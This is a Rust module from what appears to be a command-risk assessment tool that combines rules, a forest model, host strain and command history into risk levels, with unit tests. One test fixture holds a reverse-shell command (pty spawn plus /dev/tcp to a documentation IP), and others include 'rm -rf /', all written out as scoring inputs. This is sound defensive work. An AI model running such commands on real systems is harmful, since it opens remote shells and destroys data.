//! Rules, features and forest joined into one assessment.
//!
//! A score and its level say the same: below 0.25 is low, below 0.5 medium, below 0.75 high, the rest critical.

use std::path::{Path, PathBuf};

use super::features::{self, Verdict};
use super::forest::{Forest, ForestError};
use super::installed::{InstallError, Installed, InstalledModel};
use super::rules::{Rules, RulesError};
use super::{Assessment, Circumstances, Prediction, Reason};
use crate::command::{self, Doubt, Script};
use crate::config::{self, ModelBounds};
use crate::domain::{History, Level};

/// Width of a level's band of scores.
const BAND: f64 = 0.25;
/// The highest place in a band: rounding must not lift a score into the next one.
const HIGHEST_PLACE: f64 = 0.999;
/// Harmless runs of a pattern, on one target, from which on a medium command is taken for low.
const FAMILIAR_RUNS: u32 = 20;
/// Memory or disk in use, in percent, from which on a host counts as strained.
const STRAINED_PERCENT: f64 = 95.0;
/// Load for each processor from which on a host counts as strained.
const STRAINED_LOAD: f64 = 4.0;

/// What assesses commands: immutable, shared by all sessions, replaced as a whole.
#[derive(Debug)]
pub struct Assessor {
    /// The rules.
    pub rules: Rules,
    /// The forest; `None` for rules only.
    pub forest: Option<Forest>,
    /// A forest whose view is recorded beside and changes nothing; `None` for none.
    pub shadow: Option<Forest>,
    /// How far the forest may move the rules' level.
    pub bounds: ModelBounds,
}

/// Why scoring cannot be set up. A message holds its cause, so that none is told twice.
#[derive(Debug, thiserror::Error)]
pub enum RiskError {
    /// A file of rules cannot be read.
    #[error("cannot read the rules {}: {cause}; correct risk.rules in the configuration", path.display())]
    ReadRules {
        /// The file.
        path: PathBuf,
        /// Why.
        cause: std::io::Error,
    },
    /// A file of rules has a fault.
    #[error(transparent)]
    Rules(#[from] RulesError),
    /// The configured model cannot be used.
    #[error(transparent)]
    Model(ForestError),
    /// The installed model that is in force cannot be used.
    #[error("installed model number {number}: {cause}; or go back from it: opspilot model rollback")]
    InstalledModel {
        /// Its number.
        number: u32,
        /// Why.
        cause: ForestError,
    },
    /// The directory of installed models cannot be read.
    #[error(transparent)]
    Installed(#[from] InstallError),
}

/// Which model scores.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ModelInForce {
    /// The model's file.
    pub path: PathBuf,
    /// Its number where it was installed; `None` where the configuration names it.
    pub number: Option<u32>,
}

impl ModelInForce {
    fn load(self) -> Result<Forest, RiskError> {
        let loaded = Forest::load(&self.path, features::digest(), features::NAMES.len());
        loaded.map_err(|cause| match self.number {
            Some(number) => RiskError::InstalledModel { number, cause },
            None => RiskError::Model(cause),
        })
    }
}

/// The model that scores by these settings: the newest that was installed, otherwise the configured one; none where the
/// configuration wants rules only, whatever is installed.
///
/// # Errors
/// The directory of installed models is there and cannot be read.
pub fn model_in_force(settings: &config::Risk) -> Result<Option<ModelInForce>, InstallError> {
    let Some(configured) = &settings.model else {
        return Ok(None);
    };
    let installed = settings.installed.as_deref().map(Installed::new);
    let newest = installed.map_or(Ok(None), |installed| installed.in_force())?;
    Ok(Some(newest.map_or_else(
        || ModelInForce {
            path: configured.clone(),
            number: None,
        },
        |model| ModelInForce {
            path: model.path,
            number: Some(model.number),
        },
    )))
}

/// Models among the installed ones that nobody installed, and that are ignored; [`InstalledModel::why_stray`] says it.
///
/// # Errors
/// As [`model_in_force`].
pub fn stray_models(settings: &config::Risk) -> Result<Vec<InstalledModel>, InstallError> {
    let wanted = settings.installed.as_deref().filter(|_| settings.model.is_some());
    wanted
        .map(Installed::new)
        .map_or(Ok(Vec::new()), |installed| installed.strays())
}

impl Assessor {
    /// Reads rules and model. Blocks: call it outside asynchronous code.
    ///
    /// # Errors
    /// A file that cannot be read, or has a fault.
    pub fn load(settings: &config::Risk) -> Result<Self, RiskError> {
        let rules = read_rules(&settings.rules)?;
        let forest = model_in_force(settings)?.map(ModelInForce::load).transpose()?;
        Ok(Self {
            rules,
            forest,
            shadow: settings.shadow_model.as_deref().and_then(load_shadow),
            bounds: settings.bounds,
        })
    }

    /// What is to be thought of a command in its circumstances.
    ///
    /// A forest that fails on a row has no view, and the rules' level stands.
    #[must_use]
    pub fn assess(&self, script: &Script, circumstances: &Circumstances<'_>) -> Assessment {
        let reasons = self.rules.matches(script);
        let rule_score = score(&reasons);
        let rule_level = level(rule_score);
        let redacted = command::redacted(script);
        let verdict = Verdict {
            reasons: &reasons,
            score: rule_score,
        };
        let features = features::compute(&redacted, verdict, circumstances);
        let joined_with = |prediction| {
            let seen = with_forest(rule_level, prediction, self.bounds);
            in_circumstances(seen, &script.doubts, circumstances)
        };
        let prediction = predict(self.forest.as_ref(), &features);
        let joined = joined_with(prediction);
        let shadow = predict(self.shadow.as_ref(), &features).map(|seen| joined_with(Some(seen)));
        Assessment {
            level: joined,
            score: place_in_band(joined, rule_score, prediction),
            reasons,
            rule_level,
            rule_score,
            prediction,
            shadow,
            understood: script.understood(),
            pattern: command::pattern_of_redacted(&redacted),
            redacted: redacted.text.as_str().into(),
            features,
        }
    }
}

fn predict(forest: Option<&Forest>, features: &[f32]) -> Option<Prediction> {
    let prediction = forest?.predict(features);
    prediction
        .inspect_err(|error| tracing::error!(%error, "a forest failed; the level stands without it"))
        .ok()
}

/// A shadow decides nothing, so one that cannot be used keeps nobody from scoring.
fn load_shadow(path: &Path) -> Option<Forest> {
    let loaded = Forest::load(path, features::digest(), features::NAMES.len());
    loaded
        .inspect_err(|error| tracing::warn!(%error, "risk.shadow_model cannot be used and is left out"))
        .ok()
}

fn read_rules(paths: &[PathBuf]) -> Result<Rules, RiskError> {
    let mut files = Vec::with_capacity(paths.len());
    for path in paths {
        let text = std::fs::read_to_string(path).map_err(|cause| RiskError::ReadRules {
            path: path.clone(),
            cause,
        })?;
        files.push((path.display().to_string(), text));
    }
    let files: Vec<_> = files
        .iter()
        .map(|(path, text)| (path.as_str(), text.as_str()))
        .collect();
    Ok(Rules::load(&files)?)
}

/// The level that a score stands for.
#[must_use]
pub fn level(score: f64) -> Level {
    let reached = Level::ALL.iter().rev().find(|level| score >= floor(**level));
    reached.copied().unwrap_or(Level::Low)
}

/// The least score of a level.
fn floor(level: Level) -> f64 {
    match level {
        Level::Low => 0.0,
        Level::Medium => BAND,
        Level::High => 2.0 * BAND,
        Level::Critical => 3.0 * BAND,
    }
}

/// The rules' score: the gravest rule's band, and within it the higher the more rules of that level hit.
fn score(reasons: &[Reason]) -> f64 {
    let Some(gravest) = reasons.iter().map(|reason| reason.level).max() else {
        return 0.0;
    };
    let hits = reasons.iter().filter(|reason| reason.level == gravest).take(8);
    let short_of_the_top = hits.fold(BAND, |rest, _| rest / 2.0);
    floor(gravest) + BAND - short_of_the_top
}

/// What the forest makes of the rules' level: raised where a graver one is probable enough, to the gravest that is;
/// lowered by one where a lower one is and the bounds allow it. A rule's critical stands.
fn with_forest(rules: Level, prediction: Option<Prediction>, bounds: ModelBounds) -> Level {
    let Some(seen) = prediction else { return rules };
    let graver = Level::ALL.iter().rev().take_while(|level| **level > rules);
    let raised = graver
        .copied()
        .find(|level| seen.at_least(*level) >= bounds.raises_from);
    let may_lower = rules < Level::Critical && bounds.lowers.is_some_and(|gravest| rules <= gravest);
    match raised {
        Some(level) => level,
        None if may_lower && 1.0 - seen.at_least(rules) >= bounds.lowers_from => rules.lowered(),
        None => rules,
    }
}

/// The joined level. Only ever this order, after the forest: understanding, context, history.
fn in_circumstances(seen: Level, doubts: &[Doubt], circumstances: &Circumstances<'_>) -> Level {
    let understood = doubts.is_empty();
    let mut level = seen;
    if !understood {
        level = level.max(Level::Medium);
    }
    // Whoever can make the parser fail chooses when: that must never be the way around a question.
    if doubts.contains(&Doubt::Unread) {
        level = level.max(Level::High);
    }
    if level == Level::Medium && is_strained(circumstances) {
        level = level.raised();
    }
    if level == Level::Medium && understood && is_familiar(circumstances.history) {
        level = level.lowered();
    }
    level
}

/// Whether the target is so short of something that a slip would cost more than usual.
fn is_strained(circumstances: &Circumstances<'_>) -> bool {
    let Some(snapshot) = circumstances.snapshot else {
        return false;
    };
    let full = |percent: Option<f64>| percent.is_some_and(|percent| percent >= STRAINED_PERCENT);
    let load = snapshot.load_avg.one.zip(snapshot.cpus.filter(|cpus| *cpus > 0));
    full(snapshot.memory_usage.percent)
        || snapshot.disk_usage.values().any(|usage| full(usage.percent))
        || load.is_some_and(|(load, cpus)| load / f64::from(cpus) >= STRAINED_LOAD)
}

/// Whether the pattern has run here often, and neither failed, nor did harm, nor was ever refused.
fn is_familiar(history: History) -> bool {
    history.target_seen >= FAMILIAR_RUNS
        && history.user_seen > 0
        && history.refused == 0
        && history.failed == 0
        && history.harmful == 0
}

/// The joined score: the joined level's band, and the mean of two places in it, the rules' in their own band and the
/// probability that the command is high or critical. `models/joining.py` computes the same.
fn place_in_band(level: Level, rule_score: f64, prediction: Option<Prediction>) -> f64 {
    let place = (rule_score - floor(self::level(rule_score))) / BAND;
    let seen = prediction.map_or(place, |prediction| {
        f64::midpoint(place, prediction.at_least(Level::High))
    });
    floor(level) + seen.min(HIGHEST_PLACE) * BAND
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use super::*;
    use crate::context::{LoadAvg, Snapshot, Usage};
    use crate::domain::Dialect;

    const RULES: &str = include_str!("../../config/rules.toml");

    fn assessor() -> &'static Assessor {
        static ASSESSOR: LazyLock<Assessor> = LazyLock::new(|| {
            let rules = Rules::load(&[("rules.toml", RULES)]).unwrap_or_else(|error| panic!("{error}"));
            Assessor {
                rules,
                forest: None,
                shadow: None,
                bounds: ModelBounds::default(),
            }
        });
        &ASSESSOR
    }

    fn assess(text: &str, circumstances: &Circumstances<'_>) -> Assessment {
        assessor().assess(&command::parse(text, Dialect::Bash), circumstances)
    }

    fn seen(level: Level, confidence: f64) -> Prediction {
        let mut probabilities = [(1.0 - confidence) / 3.0; 4];
        probabilities[level.index()] = confidence;
        Prediction {
            level,
            confidence,
            probabilities,
        }
    }

    fn familiar() -> Circumstances<'static> {
        let history = History {
            user_seen: 30,
            target_seen: 30,
            ..History::default()
        };
        Circumstances {
            history,
            ..Circumstances::default()
        }
    }

    #[test]
    fn a_score_and_its_level_say_the_same() {
        for text in ["ls", "rm -f x", "rm -rf /etc/x", "rm -rf /", "if ; then"] {
            let assessment = assess(text, &Circumstances::default());
            assert_eq!(
                level(assessment.score),
                assessment.level,
                "{text}: {}",
                assessment.score
            );
            assert_eq!(level(assessment.rule_score), assessment.rule_level, "{text}");
            assert!((0.0..=1.0).contains(&assessment.score));
        }
    }

    #[test]
    fn what_the_grammar_failed_on_is_high_whatever_else_is_known() {
        let unread = Script {
            doubts: vec![Doubt::Unread],
            ..command::parse("ls", Dialect::Bash)
        };
        let assessment = assessor().assess(&unread, &familiar());
        assert_eq!(assessment.level, Level::High);
        assert_eq!(assessment.reasons[0].rule, "disguise.unread");
        assert!(!assessment.understood);
        assert_eq!(in_circumstances(Level::Low, &unread.doubts, &familiar()), Level::High);
    }

    #[test]
    fn more_rules_of_a_level_score_higher_and_never_reach_the_next() {
        let reason = |level| Reason {
            rule: String::new(),
            level,
            sentence: String::new(),
        };
        let few = score(&[reason(Level::High)]);
        let many = score(&vec![reason(Level::High); 100]);
        assert!(few < many && level(many) == Level::High, "{few} {many}");
        assert!(score(&[]) < f64::EPSILON);
    }

    fn joined(rules: Level, prediction: Prediction) -> Level {
        with_forest(rules, Some(prediction), ModelBounds::default())
    }

    #[test]
    fn no_forest_talks_a_grave_rule_down() {
        assert_eq!(joined(Level::Critical, seen(Level::Low, 1.0)), Level::Critical);
        assert_eq!(joined(Level::High, seen(Level::Low, 1.0)), Level::High);
    }

    #[test]
    fn bounds_let_the_forest_lower_high_or_nothing_and_never_critical() {
        let sure = Some(seen(Level::Low, 1.0));
        let lowers = |lowers| ModelBounds {
            lowers,
            ..ModelBounds::default()
        };
        assert_eq!(with_forest(Level::High, sure, lowers(Some(Level::High))), Level::Medium);
        assert_eq!(with_forest(Level::Medium, sure, lowers(None)), Level::Medium);
        assert_eq!(
            with_forest(Level::Critical, sure, lowers(Some(Level::Critical))),
            Level::Critical
        );
    }

    #[test]
    fn a_sure_forest_raises_and_lowers_by_one_at_most() {
        assert_eq!(joined(Level::Low, seen(Level::Critical, 0.92)), Level::Critical);
        assert_eq!(joined(Level::Low, seen(Level::Critical, 0.75)), Level::Medium);
        assert_eq!(joined(Level::Low, seen(Level::Critical, 0.5)), Level::Low);
        assert_eq!(joined(Level::Medium, seen(Level::Low, 0.95)), Level::Low);
        assert_eq!(joined(Level::Medium, seen(Level::Low, 0.85)), Level::Medium);
    }

    #[test]
    fn votes_for_high_and_for_critical_add_up_to_high() {
        let torn = Prediction {
            level: Level::Critical,
            confidence: 0.5,
            probabilities: [0.05, 0.0, 0.45, 0.5],
        };
        assert_eq!(joined(Level::Low, torn), Level::High);
        assert_eq!(joined(Level::Critical, torn), Level::Critical);
    }

    #[test]
    fn what_was_not_understood_is_at_least_medium_whatever_forest_and_history_say() {
        let neutral = familiar();
        assert_eq!(in_circumstances(Level::Low, &[Doubt::Grammar], &neutral), Level::Medium);
    }

    #[test]
    fn history_moves_only_medium_and_only_down_and_only_without_a_stain() {
        let familiar = familiar();
        assert_eq!(in_circumstances(Level::Medium, &[], &familiar), Level::Low);
        assert_eq!(in_circumstances(Level::High, &[], &familiar), Level::High);
        assert_eq!(in_circumstances(Level::Critical, &[], &familiar), Level::Critical);
        for stain in [
            History {
                refused: 1,
                ..familiar.history
            },
            History {
                failed: 1,
                ..familiar.history
            },
            History {
                harmful: 1,
                ..familiar.history
            },
            History {
                user_seen: 0,
                ..familiar.history
            },
        ] {
            let stained = Circumstances {
                history: stain,
                ..Circumstances::default()
            };
            assert_eq!(
                in_circumstances(Level::Medium, &[], &stained),
                Level::Medium,
                "{stain:?}"
            );
        }
    }

    #[test]
    fn a_strained_host_raises_medium_by_one() {
        let full = Snapshot {
            memory_usage: Usage {
                percent: Some(99.0),
                ..Usage::default()
            },
            ..Snapshot::default()
        };
        let busy = Snapshot {
            cpus: Some(2),
            load_avg: LoadAvg {
                one: Some(9.0),
                ..LoadAvg::default()
            },
            ..Snapshot::default()
        };
        for snapshot in [&full, &busy] {
            let strained = Circumstances {
                snapshot: Some(snapshot),
                ..Circumstances::default()
            };
            assert_eq!(in_circumstances(Level::Medium, &[], &strained), Level::High);
            assert_eq!(in_circumstances(Level::Low, &[], &strained), Level::Low);
            assert_eq!(in_circumstances(Level::High, &[], &strained), Level::High);
        }
    }

    #[test]
    fn the_joined_score_stays_in_the_joined_level() {
        for rules in Level::ALL {
            for forest in Level::ALL {
                let prediction = Some(seen(*forest, 0.97));
                let joined = with_forest(*rules, prediction, ModelBounds::default());
                assert_eq!(
                    level(place_in_band(joined, floor(*rules), prediction)),
                    joined,
                    "{rules} {forest}"
                );
            }
        }
    }

    #[test]
    fn a_shadow_says_what_it_would_have_led_to_and_changes_nothing() {
        let shipped = || {
            let path = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/models/risk.onnx"));
            Forest::load(path, features::digest(), features::NAMES.len()).unwrap()
        };
        let with_shadow = |shadow: Option<Forest>| Assessor {
            rules: Rules::load(&[("rules.toml", RULES)]).unwrap(),
            forest: None,
            shadow,
            bounds: ModelBounds::default(),
        };
        let script = command::parse(
            "python3 -c 'import pty; pty.spawn(\"/bin/sh\")' & exec 5<>/dev/tcp/203.0.113.7/4444",
            Dialect::Bash,
        );
        let alone = with_shadow(None).assess(&script, &Circumstances::default());
        let beside = with_shadow(Some(shipped())).assess(&script, &Circumstances::default());
        assert_eq!((alone.level, alone.shadow), (beside.level, None));
        assert_eq!(beside.prediction, None);
        let in_force = Assessor {
            forest: Some(shipped()),
            ..with_shadow(None)
        };
        let in_force = in_force.assess(&script, &Circumstances::default());
        assert_eq!(beside.shadow, Some(in_force.level));
    }

    #[test]
    fn a_shadow_that_cannot_be_used_is_left_out() {
        assert!(load_shadow(Path::new("/nonexistent/risk.onnx")).is_none());
    }

    #[test]
    fn a_missing_file_is_named_with_a_remedy() {
        let settings = config::Risk {
            rules: vec!["/nonexistent/rules.toml".into()],
            model: None,
            installed: None,
            shadow_model: None,
            bounds: ModelBounds::default(),
        };
        let error = Assessor::load(&settings).unwrap_err().to_string();
        assert!(
            error.contains("/nonexistent/rules.toml") && error.contains("risk.rules"),
            "{error}"
        );
    }
}
